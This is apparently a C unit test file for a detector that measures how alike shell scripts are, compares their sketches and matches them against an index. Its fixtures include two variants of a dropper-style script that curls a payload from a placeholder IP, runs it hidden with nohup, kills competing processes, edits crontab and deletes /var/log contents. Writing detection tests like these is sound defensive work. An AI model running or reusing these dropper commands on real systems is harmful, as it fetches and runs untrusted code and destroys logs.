// SPDX-License-Identifier: Apache-2.0
/* Variants of one script, and scripts that only use the same commands. DAVY TEST IMITATION. */
#include <errno.h>
#include <unistd.h>

#include "base/cleanup.h"
#include "harness/test.h"
#include "inspect/script.h"

static const char ORIGINAL[] = "#!/bin/sh\nHOST=http://192.0.2.1\nsetup() {\n  mkdir -p /tmp/.a; cd /tmp/.a\n  curl -fsSL $HOST/a.tar.gz -o a.tgz\n"
                               "  tar -xzf a.tgz; chmod +x run\n  nohup ./run >/dev/null 2>&1 &\n}\nclean() {\n  pkill -f one; killall -9 two\n"
                               "  crontab -l | grep -v three | crontab -\n  rm -rf /var/log/four\n}\nclean\nsetup\n";
/* Other names, hosts and order. */
static const char VARIANT[] = "#!/bin/bash\nU=https://203.0.113.9/x\nkehren() {\n  pkill -f uno; killall -9 dos\n"
                              "  crontab -l | grep -v tres | crontab -\n  rm -rf /var/log/cuatro\n}\nbauen() {\n  mkdir -p /var/tmp/.b; cd /var/tmp/.b\n"
                              "  curl -fsSL $U/b.tar.gz -o b.tgz\n  tar -xzf b.tgz; chmod +x los\n  nohup ./los >/dev/null 2>&1 &\n}\nkehren\nbauen\n";
static const char OTHER[] = "#!/bin/sh\nset -e\nif [ -f /etc/app.conf ]; then\n  . /etc/app.conf\nfi\ncurl -fsSL https://example.org/app.tar.gz -o app.tgz\n"
                            "tar -xzf app.tgz -C /opt\nln -sf /opt/app/bin/app /usr/local/bin/app\nsystemctl daemon-reload\nsystemctl enable --now app\necho done\n";

static void shape_of(const char *text, struct shape *ret)
{
    script_shape(str_from(text), ret);
}

TEST(variants_are_alike_and_others_are_not)
{
    struct shape a = {}, b = {}, c = {};
    shape_of(ORIGINAL, &a);
    shape_of(VARIANT, &b);
    shape_of(OTHER, &c);
    CHECK(a.runs.n >= SHAPE_RUNS_MIN && c.runs.n >= SHAPE_RUNS_MIN);
    CHECK(shape_overlap(&a, &b) >= 0.7);
    CHECK(shape_contained(&a, &b) >= 0.8);
    CHECK(shape_overlap(&a, &c) < 0.2);
    CHECK(shape_overlap(&a, &a) == 1);
    shape_done(&a);
    shape_done(&b);
    shape_done(&c);
}

TEST(sketches_and_their_index)
{
    const char *const texts[] = {ORIGINAL, OTHER, VARIANT};
    struct shape_sketch k[3], back;
    char text[SHAPE_SKETCH * 8 + 1];
    double overlap = 0;
    for (size_t i = 0; i < 3; i++) {
        struct shape s = {};
        shape_of(texts[i], &s);
        shape_sketch(&s, &k[i]);
        shape_done(&s);
        shape_sketch_text(&k[i], text);
        CHECK(shape_sketch_parse(str_from(text), &back));
        CHECK(back.n == k[i].n && !memcmp(back.v, k[i].v, back.n * sizeof(*back.v)));
    }
    CHECK(shape_sketch_overlap(&k[0], &k[2]) >= 0.6);
    CHECK(shape_sketch_overlap(&k[0], &k[1]) < 0.3);
    _cleanup_(shape_index_freep) struct shape_index *x = shape_index_new();
    CHECK_INT(shape_index_nearest(x, &k[2], 0.5, NULL).n, 0);
    CHECK(shape_index_add(x, &k[1], STR("other")));
    CHECK_INT(shape_index_nearest(x, &k[2], 0.5, NULL).n, 0);
    CHECK(shape_index_add(x, &k[0], STR("original")));
    CHECK_STR(shape_index_nearest(x, &k[2], 0.5, &overlap), "original");
    CHECK(overlap >= 0.6);
    CHECK_STR(shape_index_nearest(x, &k[1], 0.5, &overlap), "other");
    CHECK(overlap == 1);
}

TEST(sketches_that_are_none)
{
    struct shape_sketch k;
    CHECK(!shape_sketch_parse(STR(""), &k));
    CHECK(!shape_sketch_parse(STR("0000000"), &k));
    CHECK(!shape_sketch_parse(STR("0000000g"), &k));
    CHECK(!shape_sketch_parse(STR("0000000200000001"), &k));
    CHECK(shape_sketch_parse(STR("0000000100000002"), &k));
}

TEST(short_scripts_have_none)
{
    struct shape s = {};
    struct shape_sketch k;
    shape_of("#!/bin/sh\necho a\nls -l\n", &s);
    shape_sketch(&s, &k);
    CHECK_INT(k.n, 0);
    CHECK(shape_overlap(&s, &s) == 0);
    shape_done(&s);
}

TEST(shipped_shapes_load_and_mistakes_are_told)
{
    struct shapes known = {};
    struct error err = ERROR_NULL;
    CHECK_INT(shapes_add_file(&known, DAVY_SOURCE_ROOT "/rules/intel/shapes-families.txt", &err), 0);
    CHECK(known.n >= 4);
    for (size_t i = 0; i < known.n; i++)
        for (size_t j = 0; j < known.n; j++)
            CHECK(i == j || shape_contained(&known.v[i].shape, &known.v[j].shape) < 0.5);
    shapes_done(&known);
    CHECK(shapes_add_file(&known, "/nonexistent", &err) < 0);
    char path[] = "/tmp/davy-shapes-XXXXXX";
    int fd = mkstemp(path);
    CHECK(fd >= 0 && write(fd, "[short]\nls\n", 11) == 11);
    close(fd);
    CHECK_INT(shapes_add_file(&known, path, &err), -EINVAL);
    CHECK(strstr(err.text, ":1: [short]"));
    unlink(path);
    shapes_done(&known);
}
